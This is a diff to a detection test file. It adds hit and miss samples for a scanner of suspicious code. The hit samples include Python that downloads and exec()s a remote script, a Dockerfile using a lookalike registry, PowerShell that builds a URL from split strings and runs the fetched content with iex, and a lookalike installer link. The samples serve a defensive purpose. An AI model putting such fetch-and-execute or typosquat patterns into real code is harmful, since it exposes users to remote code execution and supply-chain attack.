@@ -247,6 +247,16 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     hit: "Download the client from https://zoom-us.download-center.test/ZoomInstallerFull.exe and run it.",
     miss: "Download the client from https://zoom.us/client/latest/ZoomInstallerFull.exe and run it.",
   },
+  "fetched-code-run": {
+    hit: 'import requests\n\ndef load_rules():\n    resp = requests.get("https://rules.example.net/r.py", timeout=10)\n    return resp.text\n\ndef apply(src):\n    ns = {}\n    exec(compile(src, "rules", "exec"), ns)\n    return ns\n\nrules = apply(load_rules())\n',
+    miss: 'import requests\n\ndef load_rules():\n    resp = requests.get("https://rules.example.net/r.json", timeout=10)\n    return resp.json()\n\nmodel.eval()\nvalue = eval("1 + 1")\nrules = load_rules()\n',
+    path: "scripts/x.py",
+  },
+  "image-registry-lookalike": {
+    hit: "FROM registry.dockr-hub.example.net/library/postgres:16\nRUN echo ready\n",
+    miss: "FROM postgres:16\nFROM ghcr.io/acme/base:1.2\nFROM registry.acme-corp.com/base/python:3.12\n",
+    path: "Dockerfile",
+  },
   "split-scheme-run": {
     hit: "$a = 'ht'\n$b = 'tps://cdn.example.net/p.ps1'\niex (iwr ($a + $b)).Content",
     miss: "const scheme = secure ? 'https:' : 'http:';\nconst res = await fetch(scheme + '//' + host);",
